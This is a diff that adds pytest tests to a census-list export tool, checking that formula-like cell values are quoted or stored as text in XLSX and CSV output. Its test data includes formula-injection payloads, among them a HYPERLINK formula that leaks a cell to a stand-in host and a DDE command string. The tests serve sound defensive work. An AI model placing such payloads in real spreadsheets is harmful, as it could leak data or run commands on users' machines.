@@ -203,3 +203,59 @@ def test_a_failed_write_keeps_the_previous_file(project_file, tmp_path, monkeypa
         write_lists(project, out)
     assert str(out) in caught.value.message() and "No space left" in caught.value.message()
     assert out.read_bytes() == before and not list(tmp_path.glob(".*writing*"))
+
+
+# Formula injection (issue 11, point 6)
+# ---------------------------------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
+           "\tTab", "\rCR"]
+
+
+@pytest.fixture
+def hostile_file(project_file) -> Path:
+    """The coded project with formula-like addresses, uses, a village name and a district name."""
+    project = CensusProject.open(project_file)
+    b = project["buildings"]
+    coded = b.index[b["small_area_code"] != ""]
+    for row, text in zip(coded, HOSTILE):
+        b.loc[row, "address"] = text
+    b.loc[coded[len(HOSTILE)], "use"] = "=1+1"
+    project["villages"].loc[project["villages"].index[0], "name"] = "=2+2"
+    project.save()
+    return project_file
+
+
+def test_xlsx_never_holds_a_formula(hostile_file, tmp_path):
+    import zipfile
+
+    out = tmp_path / "lists.xlsx"
+    assert main(["lists", str(hostile_file), "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    book = openpyxl.load_workbook(out)
+    cells = {c.value: c for row in book["建筑物清单"].iter_rows() for c in row if isinstance(c.value, str)}
+    for text in HOSTILE + ["=1+1"]:
+        text = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
+        assert text in cells, text
+        assert cells[text].data_type == "s" and cells[text].quotePrefix
+    names = [c for row in book["普查区域名单"].iter_rows() for c in row if c.value == "=2+2"]
+    assert names and all(c.data_type == "s" for c in names)
+    rows = list(book["普查区域名单"].iter_rows(values_only=True))
+    assert all(isinstance(r[10], int) for r in rows[1:]) and isinstance(rows[1][7], str)
+    assert book["建筑物清单"]["A2"].number_format == "@" and book["普查区域名单"].freeze_panes == "A2"
+
+
+def test_csv_prefixes_formula_like_cells_with_a_quote(hostile_file, tmp_path):
+    out = tmp_path / "lists.csv"
+    assert main(["lists", str(hostile_file), "--out", str(out)]) == 0
+    listed = pd.read_csv(tmp_path / "lists_buildings.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
+    addresses = set(listed["地址"])
+    for text in HOSTILE:
+        assert "'" + text in addresses and text not in addresses
+    assert "'=1+1" in set(listed["用途"])
+    assert not listed["地址"].str.match(r"[=+\-@\t\r]").any() and not listed["用途"].str.match(r"[=+\-@\t\r]").any()
+    areas = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
+    assert "'=2+2" in set(areas["村（居）委会名称"]) and areas["普查小区代码"].str.fullmatch(r"\d{15}").all()
+    assert '"370481102001001"' in out.read_text(encoding="utf-8-sig")
